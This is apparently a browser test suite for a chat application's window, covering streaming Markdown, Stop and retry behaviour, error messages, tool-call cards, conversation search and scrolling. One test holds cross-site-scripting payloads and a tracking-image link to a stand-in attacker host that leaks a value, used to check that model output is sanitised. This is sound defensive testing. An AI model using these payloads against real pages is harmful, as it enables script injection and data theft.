// @ts-check
// The chat window in headless Chromium against the in-page fake backend.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { eventually, openWindow, settledScrollTop, useBrowser, withKey } from './harness.mjs';

useBrowser();

const answer = (/** @type {import('playwright-core').Page} */ page) =>
  page.locator('[data-testid="message"][data-role="assistant"]').last();

/** Queues a scripted answer in the fake backend. */
async function script(/** @type {import('playwright-core').Page} */ page, /** @type {any[]} */ steps) {
  await page.evaluate((s) => window['foxtailMock'].control.answers.push(s), steps);
}

async function send(/** @type {import('playwright-core').Page} */ page, /** @type {string} */ text) {
  await page.getByTestId('composer').fill(text);
  await page.getByTestId('composer').press('Enter');
}

test('a steady stream slower than the frames costs one channel notice, not one a token', async () => {
  const { page, pageErrors, close } = await openWindow({ setup: withKey });
  try {
    // Two runs of 20 tokens 40 ms apart (the window empties the outbox between two of
    // them), with a pause of 1.5 s between: longer than the window goes on taking.
    const words = (from) => Array.from({ length: 20 }, (_, i) => ` word${from + i}`).join('');
    await page.evaluate(([a, b]) => {
      const fake = window['foxtailMock'];
      const second = fake.tokens(b, 40);
      second[0].delay = 1_500;
      fake.control.answers.push([...fake.tokens(a, 40), ...second, { delay: 10, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] }]);
    }, [words(0), words(20)]);
    await send(page, 'Go slowly');
    await page.locator('[data-testid="message"][data-status="done"][data-role="assistant"]').waitFor();
    const shown = (await answer(page).textContent()) ?? '';
    assert.ok(shown.includes('word19') && shown.includes('word39'), `every token shown: ${shown}`);
    // One notice for each run: the taking stopped in the pause and said so, and the
    // second run's first token told the window again. Before, each token was a notice.
    assert.equal(await page.evaluate(() => window['foxtailMock'].control.notices), 2);
    assert.deepEqual(pageErrors, []);
  } finally {
    await close();
  }
});

test('an answer streams in as Markdown, is announced by sentence, and lands in the sidebar', async () => {
  const { page, pageErrors, close } = await openWindow({ setup: withKey });
  try {
    // The answer pauses mid-way through its first list item, so that what is announced
    // while it is written can be read however slow the machine.
    const head = '# Plan\n\n- first';
    const rest = '\n- second\n\n```js\nconsole.log(1)\n```\n\nDone.';
    await page.evaluate(([h, r]) => {
      const fake = window['foxtailMock'];
      const later = fake.tokens(r, 60);
      later[0].delay = 3000;
      fake.control.answers.push([
        ...fake.tokens(h, 60),
        ...later,
        // Frames apart from the last token, which closes the code block: the window takes
        // once a frame, and what arrives within one frame is heard together.
        { delay: 200, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
      ]);
    }, [head, rest]);
    await send(page, 'Make a plan');
    const a = answer(page);
    await assert.doesNotReject(a.locator('h1', { hasText: 'Plan' }).waitFor());
    await assert.doesNotReject(page.getByTestId('announcer').filter({ hasText: 'Plan' }).waitFor());
    assert.equal(await a.getAttribute('data-status'), 'streaming', 'still streaming after the heading');
    // Only what is complete is announced while tokens arrive: the heading, not the list item
    // still being written.
    assert.doesNotMatch((await page.getByTestId('announcer').textContent()) ?? '', /first|second|Done/);
    await page.locator('[data-testid="message"][data-status="done"][data-role="assistant"]').waitFor();
    assert.equal(await a.locator('li').count(), 2);
    assert.equal(await a.locator('pre code').textContent(), 'console.log(1)\n');
    assert.ok(await a.locator('button.md-copy').isVisible(), 'code block has a copy button');
    // The last sentence and the end, not the whole answer again; the code is not read.
    assert.equal(((await page.getByTestId('announcer').textContent()) ?? '').trim(), 'Done. Answer finished.');
    assert.equal(await page.getByTestId('conversation').count(), 1);
    assert.match((await page.getByTestId('conversation').textContent()) ?? '', /Make a plan/);

    // Copy puts the code, not the page's markup, on the clipboard.
    await a.locator('button.md-copy').click();
    assert.equal(await page.evaluate(() => window['foxtailMock'].control.clipboard), 'console.log(1)');
    assert.deepEqual(pageErrors, []);
  } finally {
    await close();
  }
});

/** Sends `text` and waits for `word` of a 200-word answer streaming at 40 words a second. */
async function sendForLongAnswer(/** @type {import('playwright-core').Page} */ page, /** @type {string} */ text, /** @type {string} */ word) {
  const long = Array.from({ length: 200 }, (_, i) => `word${i}`).join(' ');
  await page.evaluate((t) => window['foxtailMock'].control.answers.push(window['foxtailMock'].tokens(t, 40)), long);
  await send(page, text);
  await answer(page).getByText(word).waitFor();
}

test('Stop and Esc end the answer at once and keep its text', async () => {
  const { page, close } = await openWindow({ setup: withKey });
  try {
    await sendForLongAnswer(page, 'Talk a lot', 'word3');
    await page.getByTestId('stop').click();
    await page.locator('[data-testid="message"][data-role="assistant"][data-status="interrupted"]').waitFor({ timeout: 1500 });
    const kept = (await answer(page).textContent()) ?? '';
    assert.match(kept, /word3/);
    assert.match(await page.getByTestId('cut-off').textContent() ?? '', /Stopped/);
    await page.waitForTimeout(200);
    assert.equal(await answer(page).textContent(), kept, 'nothing arrives after Stop');
    assert.ok(await page.getByTestId('continue').isVisible(), 'a stopped answer can be continued');
    assert.ok(await page.getByTestId('send').isVisible(), 'the composer sends again');

    // Esc does the same.
    await sendForLongAnswer(page, 'Again', 'word2');
    await page.keyboard.press('Escape');
    await page.locator('[data-testid="message"][data-role="assistant"]').last().and(page.locator('[data-status="interrupted"]')).waitFor({ timeout: 1500 });
  } finally {
    await close();
  }
});

test('a Stop the backend refuses still shows the answer as stopped, and says why', async () => {
  const { page, close } = await openWindow({ setup: withKey });
  try {
    await sendForLongAnswer(page, 'Talk a lot', 'word3');
    await page.evaluate(() => {
      window['foxtailMock'].control.failNext.stop_answer = { kind: 'storage', message: 'database is locked' };
    });
    await page.getByTestId('stop').click();
    // No cancelled event will come for it: it is shown as stopped at once.
    await answer(page).and(page.locator('[data-status="interrupted"]')).waitFor({ timeout: 1500 });
    assert.match(await page.getByTestId('cut-off').textContent() ?? '', /Stopped/);
    await page.getByTestId('notice').and(page.locator('[data-kind="storage"]')).waitFor({ timeout: 1500 });
  } finally {
    await close();
  }
});

test('retries, a resume, and errors are shown in plain words', async () => {
  const { page, close } = await openWindow({ setup: withKey });
  try {
    await script(page, [
      { delay: 0, events: [{ type: 'retry', attempt: 2, max_attempts: 3, delay_ms: 4000, reason: 'HTTP 503', resume: false }] },
      { delay: 1500, events: [{ type: 'text', text: 'Hello' }] },
      { delay: 10, events: [{ type: 'retry', attempt: 1, max_attempts: 2, delay_ms: 300, reason: 'reset', resume: true }] },
      { delay: 400, events: [{ type: 'text', text: ' world' }] },
      { delay: 1000, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
    ]);
    await send(page, 'Hi');
    const status = page.getByTestId('status-line');
    await assert.doesNotReject(status.getByText('Trying again in 4 s (attempt 2 of 3)').waitFor());
    await status.getByText('The connection dropped').waitFor();
    await status.getByText('Reconnected, continuing.').waitFor();
    await answer(page).and(page.locator('[data-status="done"]')).waitFor();
    assert.match((await answer(page).textContent()) ?? '', /Hello world/);

    await script(page, [
      { delay: 10, events: [{ type: 'error', kind: 'auth', message: 'Incorrect API key provided: sk-te***34', status: 401 }] },
    ]);
    await send(page, 'Again');
    const error = answer(page).getByTestId('error');
    await error.waitFor();
    assert.equal(await answer(page).getAttribute('data-status'), 'error');
    assert.match((await error.locator('p').textContent()) ?? '', /The API key was rejected\. Check it in Settings\./);
    assert.equal(await error.locator('details').getAttribute('open'), null, 'technical detail is folded');
    assert.match((await error.locator('details').textContent()) ?? '', /Incorrect API key provided.*HTTP 401/s);

    await script(page, [
      { delay: 10, events: [{ type: 'text', text: 'Half an ans' }] },
      { delay: 10, events: [{ type: 'error', kind: 'interrupted', message: 'the stream ended early' }] },
    ]);
    await send(page, 'Third');
    await answer(page).and(page.locator('[data-status="interrupted"]')).waitFor();
    assert.match((await page.getByTestId('cut-off').last().textContent()) ?? '', /cut off/);
    await script(page, [
      { delay: 10, events: [{ type: 'text', text: 'wer.' }] },
      { delay: 10, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
    ]);
    await answer(page).getByTestId('continue').click();
    await answer(page).and(page.locator('[data-status="done"]')).waitFor();
    assert.match((await answer(page).textContent()) ?? '', /Half an answer\./);
  } finally {
    await close();
  }
});

test('model output cannot run script, navigate, or load remote images', async () => {
  const { page, pageErrors, close } = await openWindow({ setup: withKey });
  try {
    const hostile = [
      '<script>window.pwned = 1</script>',
      '<img src="x" onerror="window.pwned = 2">',
      '<a href="https://example.com" onclick="window.pwned = 3">handler</a>',
      '[js link](javascript:window.pwned=4)',
      '![tracker](https://evil.example/pixel.png?c=secret)',
      '<iframe src="https://evil.example"></iframe>',
      '[safe link](https://example.org/page)',
    ].join('\n\n');
    await page.evaluate((t) => {
      const fake = window['foxtailMock'];
      fake.control.answers.push([...fake.tokens(t, 5), { delay: 5, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] }]);
    }, hostile);
    await send(page, 'Be evil');
    await answer(page).and(page.locator('[data-status="done"]')).waitFor();
    const a = answer(page);
    assert.equal(await a.locator('script, iframe, [onerror], [onclick]').count(), 0);
    assert.equal(await a.locator('img[src^="http"]').count(), 0, 'no remote image is loaded');
    assert.equal(await a.locator('a[href^="javascript"]').count(), 0);
    await assert.doesNotReject(a.locator('button.md-image-placeholder').waitFor(), 'the image waits behind a button');
    await a.getByText('js link').click();
    await a.getByText('handler').click();
    await a.getByText('safe link').click();
    // Its text is not its address, so it opens only once the person says so.
    await page.getByTestId('link-open').click();
    // Opening goes through the backend: wait for it, however slow the machine, not for a time.
    await page.waitForFunction(() => window['foxtailMock'].control.opened.length > 0);
    assert.equal(await page.evaluate(() => window['pwned']), undefined);
    // Raw HTML shows as text, so only the Markdown link opens, in the system browser.
    assert.deepEqual(await page.evaluate(() => window['foxtailMock'].control.opened), ['https://example.org/page']);
    assert.ok(page.url().endsWith('/mock.html'), 'the window never navigated');
    assert.deepEqual(pageErrors, []);
  } finally {
    await close();
  }
});

test('regenerate, edit-and-resend and copy work on messages', async () => {
  const { page, close } = await openWindow({ setup: withKey });
  try {
    const say = (/** @type {string} */ t) => [
      { delay: 5, events: [{ type: 'text', text: t }] },
      { delay: 5, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
    ];
    await script(page, say('First answer'));
    await send(page, 'Question one');
    await answer(page).getByText('First answer').waitFor();
    await answer(page).and(page.locator('[data-status="done"]')).waitFor();

    await script(page, say('Second try'));
    // A double click starts one answer, not two writing into each other.
    await answer(page).getByTestId('regenerate').dblclick();
    await answer(page).getByText('Second try').waitFor();
    const regenerations = await page.evaluate(
      () => window['foxtailMock'].control.calls.filter((c) => c.cmd === 'regenerate_answer').length,
    );
    assert.equal(regenerations, 1);
    assert.equal(await page.getByTestId('message').count(), 2);

    await answer(page).getByTestId('copy').click();
    assert.equal(await page.evaluate(() => window['foxtailMock'].control.clipboard), 'Second try');

    await script(page, say('Answer to the edit'));
    const user = page.locator('[data-testid="message"][data-role="user"]');
    await user.getByTestId('edit').click();
    await page.getByTestId('edit-input').fill('Question one, edited');
    await page.getByTestId('edit-send').click();
    await answer(page).getByText('Answer to the edit').waitFor();
    assert.equal(await page.getByTestId('message').count(), 2, 'the old turn was replaced');
    assert.equal(await user.textContent().then((t) => t?.includes('Question one, edited')), true);
  } finally {
    await close();
  }
});

test('conversations can be searched, renamed, deleted with undo, and reopened', async () => {
  const { page, close } = await openWindow({ setup: withKey });
  try {
    for (const [q, a] of [
      ['About otters', 'Otters hold hands while sleeping.'],
      ['About bees', 'Bees dance to share directions.'],
    ]) {
      await script(page, [
        { delay: 5, events: [{ type: 'text', text: a }] },
        { delay: 5, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
      ]);
      await page.keyboard.press('Control+n');
      await send(page, q);
      await answer(page).and(page.locator('[data-status="done"]')).waitFor();
    }
    const rows = page.getByTestId('conversation');
    assert.equal(await rows.count(), 2);
    assert.match((await rows.first().textContent()) ?? '', /About bees/, 'newest first');

    await page.keyboard.press('Control+k');
    await page.keyboard.type('dance');
    await page.getByTestId('search-hit').waitFor();
    assert.equal(await page.getByTestId('search-hit').count(), 1);
    assert.equal(await page.locator('[data-testid="search-hit"] mark').textContent(), 'dance');
    await page.getByTestId('search').fill('');

    await page.keyboard.press('Control+n');
    assert.equal(await page.getByTestId('message').count(), 0);
    await rows.filter({ hasText: 'About otters' }).locator('.conversation-link').click();
    await page.getByText('Otters hold hands').waitFor();

    const otters = rows.filter({ hasText: 'About otters' });
    await otters.hover();
    await otters.getByTestId('rename').click();
    await page.getByTestId('rename-input').fill('Sea otters');
    await page.getByTestId('rename-input').press('Enter');
    await rows.filter({ hasText: 'Sea otters' }).waitFor();

    const renamed = rows.filter({ hasText: 'Sea otters' });
    await renamed.hover();
    await renamed.getByTestId('delete').click();
    await page.getByTestId('undo').waitFor();
    assert.equal(await rows.count(), 1);
    assert.equal(await page.getByTestId('message').count(), 0, 'the open conversation closed');
    await page.getByTestId('undo').click();
    await rows.filter({ hasText: 'Sea otters' }).waitFor();
    assert.equal(await rows.count(), 2);
  } finally {
    await close();
  }
});

test('a tool call shows as a card while it is written, run, and folded when done', async () => {
  const { page, close } = await openWindow({ setup: withKey });
  try {
    const pieces = ['{"expr', 'ession"', ':"12', '*7"}'];
    // The cards come from Rust (tool_cards.rs builds them from the events), so the script
    // sends them as Rust would after each event; the window builds none itself.
    const before = 'Let me work that out.';
    /** @param {object} over */
    const cards = (over) => ({
      refusal: '',
      tools: [{ index: 0, at: before.length, id: 'call_1', name: 'calculator', arguments: '', done: false, result: null, is_error: false, ...over }],
    });
    await script(page, [
      { delay: 5, events: [{ type: 'text', text: before }] },
      {
        delay: 5,
        events: [{ type: 'tool_call_delta', index: 0, id: 'call_1', name: 'calculator', arguments_delta: '' }],
        extras: cards({}),
      },
      ...pieces.map((p, i) => ({
        delay: 150,
        events: [{ type: 'tool_call_delta', index: 0, arguments_delta: p }],
        extras: cards({ arguments: pieces.slice(0, i + 1).join('') }),
      })),
      {
        delay: 150,
        events: [
          { type: 'tool_call', index: 0, id: 'call_1', name: 'calculator', arguments: { expression: '12*7' }, arguments_raw: '{"expression":"12*7"}' },
        ],
        extras: cards({ arguments: '{"expression":"12*7"}', done: true }),
      },
      {
        delay: 1500,
        events: [{ type: 'tool_result', id: 'call_1', name: 'calculator', content: '84', is_error: false }],
        extras: cards({ arguments: '{"expression":"12*7"}', done: true, result: '84' }),
      },
      { delay: 5, events: [{ type: 'text', text: '\n\nThe answer is 84.' }] },
      { delay: 5, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
    ]);
    await send(page, 'What is 12 times 7?');
    const card = answer(page).getByTestId('tool-call');
    await card.and(page.locator('[data-state="writing"]')).waitFor();
    assert.equal(await card.getAttribute('data-name'), 'calculator');
    // The arguments grow while the model writes them.
    await page.waitForFunction(
      () => document.querySelector('[data-testid="tool-arguments"]')?.textContent === '{"expression":"12',
    );
    await card.and(page.locator('[data-state="running"]')).waitFor();
    await card.and(page.locator('[data-state="done"]')).waitFor();
    assert.equal(await card.getAttribute('open'), null, 'the card folds once done');
    assert.equal(await card.getByTestId('tool-result').textContent(), '84');
    await answer(page).and(page.locator('[data-status="done"]')).waitFor();
    assert.equal(await answer(page).locator('.markdown p').count(), 2, 'the two steps are two paragraphs');
    // The card sits where the call happened: after the first paragraph, before the answer.
    const order = await answer(page).evaluate((el) =>
      [...el.querySelectorAll('.markdown p, [data-testid="tool-call"]')].map((n) =>
        n.matches('[data-testid="tool-call"]') ? 'card' : n.textContent?.trim(),
      ),
    );
    assert.deepEqual(order, ['Let me work that out.', 'card', 'The answer is 84.']);
    assert.match((await answer(page).textContent()) ?? '', /The answer is 84\./);

    // Reopened, the answer shows the cards saved with it.
    await page.keyboard.press('Control+n');
    await page.getByTestId('conversation').first().locator('.conversation-link').click();
    await answer(page).getByTestId('tool-result').waitFor({ state: 'attached' });
    assert.equal(await answer(page).getByTestId('tool-result').textContent(), '84');
  } finally {
    await close();
  }
});

test('an answer that could not be saved says why in plain words and streams on', async () => {
  const { page, close } = await openWindow({ setup: withKey });
  try {
    const full = 'The disk is full, so Foxtail could not save. Free some space; nothing on screen is lost.';
    await script(page, [
      { delay: 5, events: [{ type: 'text', text: 'Still ' }], saveFailed: { kind: 'disk_full', message: full } },
      { delay: 300, events: [{ type: 'text', text: 'here.' }] },
      { delay: 5, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
    ]);
    await send(page, 'Hello');
    const notice = page.getByTestId('save-failed');
    await notice.waitFor();
    assert.equal(await notice.getAttribute('data-kind'), 'disk_full');
    assert.match((await notice.textContent()) ?? '', /not saved yet.*Your disk is full/s);
    await answer(page).and(page.locator('[data-status="done"]')).waitFor();
    assert.match((await answer(page).textContent()) ?? '', /Still here\./);
  } finally {
    await close();
  }
});

test('the list follows a growing answer until the person scrolls up, and again at the bottom', async () => {
  const { page, close } = await openWindow({ setup: withKey });
  try {
    const lines = Array.from({ length: 400 }, (_, i) => `Line ${i}.`).join('\n\n');
    await page.evaluate((t) => {
      const fake = window['foxtailMock'];
      fake.control.answers.push([...fake.tokens(t, 15), { delay: 5, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] }]);
    }, lines);
    await send(page, 'Count');
    const list = page.getByTestId('message-list');
    const gap = () => list.evaluate((el) => el.scrollHeight - el.scrollTop - el.clientHeight);
    await answer(page).getByText('Line 60.').waitFor();
    assert.ok((await gap()) < 60, `follows while at the bottom (gap ${await gap()})`);

    // Scrolling up to read stops the following.
    await list.hover();
    const followedTo = await list.evaluate((el) => el.scrollTop);
    await page.mouse.wheel(0, -600);
    const readingAt = await settledScrollTop(list, followedTo);
    await answer(page).getByText('Line 120.').waitFor();
    assert.equal(await list.evaluate((el) => el.scrollTop), readingAt, 'the text being read stays put');
    assert.ok((await gap()) > 100, `no longer at the bottom (gap ${await gap()})`);

    // Back at the bottom, it follows again.
    await list.evaluate((el) => el.scrollTo({ top: el.scrollHeight }));
    await answer(page).getByText('Line 180.').waitFor();
    assert.ok(await eventually(async () => (await gap()) < 60), `follows again (gap ${await gap()})`);
  } finally {
    await close();
  }
});
